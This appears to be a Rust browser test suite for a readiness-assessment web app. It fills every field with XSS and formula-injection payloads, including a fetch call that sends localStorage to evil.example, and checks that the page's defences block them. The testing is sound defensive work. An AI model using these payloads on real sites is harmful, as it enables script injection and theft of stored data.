//! Words that are not what they seem, in every field and on every page; and scripts
//! that someone else brought onto the page.

use std::fs;

use journeys::mutated::mutated;
use journeys::pages::{Files, ResultPage, Start, every_route, wait_for_page};
use journeys::{Kind, Problem, Result, Session, project};
use ready20k::core::assessment::planning::{ActionPlan, Details, Indicator, Measured, Snapshot};
use ready20k::core::assessment::{Assessment, GapNote};
use ready20k::core::date::Date;
use ready20k::core::id::{ActionId, IndicatorId, SnapshotId};
use ready20k::core::standard::SubClause;
use ready20k::exchange;

/// What makes trouble somewhere: markup, formulas, names of values, turned directions,
/// marks upon marks, and words without an end.
fn hostile() -> String {
    let parts = [
        "<img src=x onerror=\"window.hacked=1\"><script>window.hacked=1</script>",
        "\"'><svg onload=window.hacked=1>",
        "=HYPERLINK(\"http://evil.example\") {count} {name} %s $& $1",
        "\u{202e}turned\u{2067} \u{2069}\u{2069}\u{202e}שלום",
        &format!("e{}", "\u{301}".repeat(300)),
        &"W".repeat(4_000),
        &"ﷺ".repeat(200),
        &"👩‍👩‍👧🇩🇪".repeat(50),
        "javascript:window.hacked=1",
    ];
    parts.join(" ")
}

/// An example organisation with such words in every field.
fn assessment() -> Result<Assessment> {
    let text = fs::read_to_string(project().join("src/catalogue/en/demos/it-provider.json"))?;
    let file = exchange::import(&text).map_err(|problem| format!("{problem:?}"))?;
    let mut own = file.assessments.into_iter().next().ok_or("no example")?;
    let words = hostile();
    own.profile.organisation.clone_from(&words);
    own.profile.services.clone_from(&words);
    own.profile.motives.insert(words.clone());
    for answer in own.answers.values_mut() {
        answer.note.clone_from(&words);
        answer.evidence_link.clone_from(&words);
    }
    for sub_clause in SubClause::all() {
        let note: &mut GapNote = own.gaps.entry(sub_clause).or_default();
        note.owner.clone_from(&words);
        note.cause.clone_from(&words);
        note.note.clone_from(&words);
    }
    for id in ["scope-statement", "context-list", words.as_str()] {
        let plan: &mut ActionPlan = own.plan.actions.entry(ActionId::new(id)).or_default();
        plan.owner.clone_from(&words);
        plan.cause.clone_from(&words);
        plan.note.clone_from(&words);
    }
    for held in own.work_products.documents.values_mut() {
        held.owner.clone_from(&words);
    }
    for held in own.work_products.records.values_mut() {
        held.owner.clone_from(&words);
    }
    let date = Date::from_ymd(2026, 11, 1).ok_or("a day")?;
    own.plan.snapshots.push(Snapshot {
        id: SnapshotId::new(&words),
        date,
        name: words.clone(),
        readiness: Some(1e-300),
        conformity: f64::MIN_POSITIVE,
        done: vec![ActionId::new(&words)],
        lessons: words.clone(),
        details: Details::default(),
    });
    let value = |value| Measured { date, value };
    own.plan.indicators.push(Indicator {
        id: IndicatorId::new(&words),
        name: words.clone(),
        unit: words,
        baseline: Some(1e9),
        values: vec![value(-1e9), value(1e-308), value(1e9)],
    });
    Ok(own)
}

#[tokio::test]
async fn hostile_words_do_nothing_on_any_page() -> Result<()> {
    let session = Session::start().await?;
    session.resize(360, 740).await?;
    let own = assessment()?;
    let text = exchange::export(&[own], "2026-11-27T00:00:00Z", Vec::new())
        .map_err(|problem| format!("{problem:?}"))?;
    // No program of ours writes such numbers: it holds them in range.
    let text = text
        .replace("1000000000", "1e308 ")
        .replace("1e308 .0", "1e308");
    assert!(text.contains("-1e308"), "no such numbers");
    let folder = tempfile::tempdir()?;
    let path = folder.path().join("hostile.ready20k.json");
    fs::write(&path, text)?;
    Start::open_whole(&session).await?;
    let files = Files(&session);
    files.choose(&path).await?;
    files.take_in().await?;
    session.wait_until_loaded().await?;
    // It is more than WebKit's local storage holds; the page has it all the same.
    let listed = "document.querySelector(\"[data-testid='assessment'] a[href^='#/a/']\")";
    session.wait_for(listed).await?;
    let id: String = session
        .script(&format!("{listed}.getAttribute('href').split('/')[2]"))
        .await?;
    let mut faults = Vec::new();
    // As narrow as the browser makes it.
    let room: u32 = session.script("innerWidth").await?;
    for route in every_route(&id) {
        if route == "#/demo" {
            continue;
        }
        session.go(&route).await?;
        wait_for_page(&session).await?;
        session
            .script::<Option<()>>(
                "[...document.querySelectorAll('main details')].slice(0, 12).forEach((one) => { one.open = true })",
            )
            .await?;
        wait_for_page(&session).await?;
        let wide: u32 = session
            .script("document.documentElement.scrollWidth")
            .await?;
        if wide > room {
            let by: Vec<String> = session.script(WIDEST).await?;
            faults.push(format!("{route} is {wide} wide: {by:?}"));
        }
        let hacked: bool = session.script("'hacked' in window").await?;
        let shown: bool = session
            .script(
                "/\\bNaN\\b|\\binf(inity)?\\b|∞/.test(document.querySelector('main').innerText)",
            )
            .await?;
        if hacked || shown {
            faults.push(format!(
                "{route}: a script ran: {hacked}, no number: {shown}"
            ));
        }
    }
    assert!(faults.is_empty(), "{}", faults.join("\n"));
    session.finish().await
}

/// What reaches out of the screen, the innermost of it.
const WIDEST: &str = "[...document.querySelectorAll('body *')].filter((one) => \
    one.getBoundingClientRect().right > innerWidth + 1 && one.closest('.table-scroll, .chart-scroll, svg') === null \
    && ![...one.children].some((inner) => inner.getBoundingClientRect().right > innerWidth + 1)) \
    .slice(0, 4).map((one) => `${one.parentElement.className}>${one.tagName}.${one.className}`)";

#[tokio::test]
async fn mutated_files_are_answered_and_change_nothing() -> Result<()> {
    let answered = mutated(50).await?;
    assert!(answered.read > 10, "{answered:?}");
    // Much longer than it takes, for busy machines.
    assert!(answered.slowest[0].took < 5_000.0, "{answered:?}");
    // Of a file of a thousand each is reported only when it is listed.
    assert!(
        answered.crowd.0 < 5_000.0 && answered.crowd.1 == 20,
        "{answered:?}"
    );
    Ok(())
}

#[tokio::test]
async fn no_script_runs_but_the_pages_own() -> Result<()> {
    let deeds = [
        "const one = document.createElement('script'); one.append('window.hacked = 1'); document.body.append(one)",
        "const one = document.createElement('p'); one.setAttribute('onclick', 'window.hacked = 1'); \
         document.body.append(one); one.click()",
        "const one = document.createElement('a'); one.href = 'javascript:window.hacked = 1'; \
         document.body.append(one); one.click()",
        "setTimeout('window.hacked = 1')",
        "new Function('window.hacked = 1')()",
        "const one = document.createElement('div'); \
         one.innerHTML = '<img src=x onerror=\"window.hacked = 1\">'; document.body.append(one)",
        "const one = document.createElement('div'); \
         one.innerHTML = '<iframe srcdoc=\"<script>parent.hacked = 1</script>\"></iframe>'; document.body.append(one)",
        "const one = document.createElement('base'); one.href = 'https://evil.example/'; document.head.append(one); \
         if (!document.baseURI.includes('evil')) throw 0",
        "new Worker('data:text/javascript,0')",
        "await fetch('https://evil.example/?' + JSON.stringify(localStorage))",
        "const one = new Image(); one.src = 'https://evil.example/pixel.png'; document.body.append(one)",
    ];
    // As scripts of the page's own, in a task of their own: what a driver runs may evaluate text.
    let tasks = deeds.map(|deed| format!("async () => {{ {deed} }}"));
    let session = Session::start().await?;
    session.before_pages(&format!("window.deeds = [{}]", tasks.join(",\n")));
    session.open("#/demo/it-provider").await?;
    ResultPage(&session).wait().await?;
    session.wait_until_loaded().await?;
    for (at, deed) in deeds.into_iter().enumerate() {
        let script = format!(
            "const done = arguments[arguments.length - 1]; \
             setTimeout(() => window.deeds[{at}]().catch(() => {{}}) \
             .then(() => setTimeout(() => done('hacked' in window), 100)))"
        );
        let hacked = session.driver().execute_async(script, Vec::new()).await?;
        assert!(!hacked.convert::<bool>()?, "{deed}");
        let problems = session.take_problems().await?;
        // The recorder notes what was asked for, the host what was on its way there.
        let left = |problem: &&Problem| {
            problem.kind == Kind::Foreign && problem.text.contains("evil.example:443")
        };
        assert_eq!(problems.iter().find(left), None, "{deed}");
        // The page itself goes on.
        assert!(session.has("next").await?, "{deed}");
    }
    session.finish().await
}
